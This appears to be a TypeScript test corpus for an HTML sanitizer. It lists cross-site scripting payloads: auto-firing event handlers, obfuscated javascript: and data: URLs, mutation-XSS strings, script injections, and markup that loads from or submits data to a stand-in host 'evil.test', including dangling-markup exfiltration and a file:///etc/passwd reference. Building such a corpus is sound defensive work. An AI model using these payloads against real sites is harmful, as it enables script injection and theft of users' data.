/** Parts of the corpus: markup, handlers and addresses that run, load or navigate. */
export const run = "alert(1)";
export const img = `<img src=x onerror=${run}>`;
export const evil = "https://evil.test";
const base64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

/** Splits payloads at ¦ and drops the source's line ends. */
export const parted = (text: string): string[] => text.replace(/^\n|\n$|(?<=¦)\n/g, "").split("¦");

/** Elements whose handler runs by itself, or at the first touch, with all necessary attributes. */
export const handlers = parted(`
img src=x onerror¦img src=/favicon.ico onload¦svg onload¦svg/onload¦body onload¦body onpageshow¦iframe onload¦
input autofocus onfocus¦select autofocus onfocus¦textarea autofocus onfocus¦button autofocus onfocus¦
a href=# autofocus onfocus¦x tabindex=1 autofocus onfocus¦video src=x onerror¦audio src=x onerror¦video><source onerror¦
details open ontoggle¦dialog open onclick¦object data=x onerror¦embed src=/favicon.ico onload¦
link rel=stylesheet href=x onerror¦script src=x onerror¦style onload¦input type=image src=x onerror¦marquee onstart¦
form oninput¦p onmouseover¦x contenteditable onbeforeinput¦x class=is-new onanimationstart¦x popover onbeforetoggle¦
frameset onload¦body onhashchange¦svg><image href=x onerror
`);
/** Terminators of the contexts of a string. */
export const ends = parted(`
"¦'¦\`¦>¦">¦'>¦</title>¦</textarea>¦</style>¦</script>¦</noscript>¦-->¦--!>¦]]>¦</select>¦</option></select>¦</template>¦
</xmp>¦</iframe>¦</noembed>¦</noframes>¦</svg>¦</math>¦</a>¦</button>¦</dialog>¦</table>¦</body></html>¦<!-->¦<![CDATA[¦<?x ¦
</p x='>
`);
export const attributeEnds = ['"', "'", "`", "&quot;", "&#39;", "&#x22", '\\"', "%22", '\u201d"', " "];
/** Addresses that no link, picture or form may contain, for all ways in which a browser parses them. */
export const hostileUrls = parted(`
javascript:${run}¦JaVaScRiPt:${run}¦ javascript:${run}¦\u0001javascript:${run}¦java\tscript:${run}¦java\nscript:${run}¦
java\r\nscript:${run}¦javascript\t:${run}¦javascript://x%0a${run}¦javascript:void(0);${run}¦
javascript:%61lert(1)¦javascript:"${img}"¦feed:javascript:${run}¦view-source:javascript:${run}¦vbscript:msgbox(1)¦
livescript:${run}¦data:text/html,<script>${run}</script>¦data:text/html;base64,${base64}¦
DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>¦data:,${run}¦blob:${evil}/1¦//evil.test/x¦
/\\evil.test/x¦\\\\evil.test\\x¦/\t/evil.test/x¦///evil.test/x¦https:\\\\evil.test¦filesystem:${evil}/x¦about:srcdoc¦
file:///etc/passwd
`);
export const entityUrls = parted(`
javascript&colon;${run}¦java&Tab;script:${run}¦java&NewLine;script&colon;${run}¦&#106;avascript:${run}¦
&#x6A&#x61vascript:${run}¦&#0000106avascript:${run}¦javascript:alert&lpar;1&rpar;¦&#14;javascript:${run}
`);
export const mutations = parted(`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">¦<math><mtext><table><mglyph><style>${img}¦
<svg></p><style><a id="</style>${img}">¦<noscript><p title="</noscript>${img}">¦
<form><math><mtext></form><form><mglyph><style></math>${img}¦
<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>¦
<svg><title><style><!--</style>${img}--></style></title></svg>¦
<svg><foreignobject><iframe srcdoc="${img.replace(">", "&gt;")}"></iframe></foreignobject></svg>¦
<select><template><style><!--</style><a rel="--></style></template></select>${img}">¦
<table><td><a title="</td></table>${img}">x</a></td></table>¦<p id="</p>${img}"><plaintext>¦
<a title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>¦&lt;img src=x onerror=${run}&gt;¦
&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;¦<scr<script>ipt>${run}</scr</script>ipt>¦
<<script>${run}//<</script>¦<img src="x\`><script>${run}</script>"\`>¦
<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>¦<iframe><textarea></iframe>${img}¦
<h2>${"<b>".repeat(40)}${img}</h2>
`);
export const scripts = parted(`
<script>${run}</script>¦<ScRiPt >${run}</ScRiPt >¦<script\n>${run}</script\n>¦<script/x>${run}</script/x>¦
<script src=${evil}/x.js></script>¦<script src=data:,${run}></script>¦
<script type=module>import "${evil}/x.js"</script>¦<script type=importmap>{"imports":{"/build/":"${evil}/"}}</script>¦
<script type=speculationrules>{"prefetch":[{"urls":["${evil}/x"]}]}</script>¦<svg><script href=data:,${run} />¦
<svg><script>&#97;lert(1)</script>¦<math><script>${run}</script></math>¦
</script><script>${run}</script><script type="application/ld+json">¦"}]}</script><script>${run}</script>¦
<!--<script>${run}//--></script>¦<!--<script><!--</script>${img}¦";${run};//¦';${run};//¦\\";${run};//¦
\u2028${run}\u2029//¦*/${run}/*
`);
export const leading = parted(`
<base href=${evil}/>¦<meta http-equiv=refresh content="0;url=${evil}/">¦
<meta http-equiv=refresh content="0;url=javascript:${run}">¦
<meta http-equiv=Content-Security-Policy content="script-src *">¦<meta name=referrer content=unsafe-url>¦
<form action=${evil}/ id=f><button>x</button></form><button form=f autofocus>x</button>¦
<form><button formaction=javascript:${run}>x</button></form>¦
<input type=submit formaction=${evil}/ form=filter value=x>¦<isindex action=javascript:${run} type=image>¦
<iframe src=javascript:${run}></iframe>¦<iframe src=${evil}/></iframe>¦
<iframe srcdoc='<script>parent.${run}</script>'></iframe>¦<object data=javascript:${run}></object>¦
<embed src=${evil}/x.svg>¦<portal src=${evil}/></portal>¦<a href="${evil}/" ping=${evil}/ping target=_blank>x</a>¦
<area href=javascript:${run} shape=default>¦
<img usemap=#m src=/favicon.ico><map name=m><area href=javascript:${run}></map>¦<img src='${evil}/?¦
<a href='${evil}/'><base target='¦<textarea form=filter name=q>¦<form action=${evil}/><textarea name=stolen>¦
<style>@import '${evil}/?¦<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">¦
<picture><source srcset=${evil}/1.png><img src=/favicon.ico></picture>¦
<video poster=${evil}/p.png src=${evil}/v.mp4 autoplay></video>¦
<table background=${evil}/b.png><td background=${evil}/b.png>x</td></table>¦<input type=image src=${evil}/x.png>¦
<link rel=stylesheet href=${evil}/x.css>¦<link rel=import href=${evil}/x.html>¦<link rel=prefetch href=${evil}/x>¦
<link rel=modulepreload href=${evil}/x.js>¦<link rel=dns-prefetch href=//evil.test>¦<link rel=manifest href=data:,{}>
`);
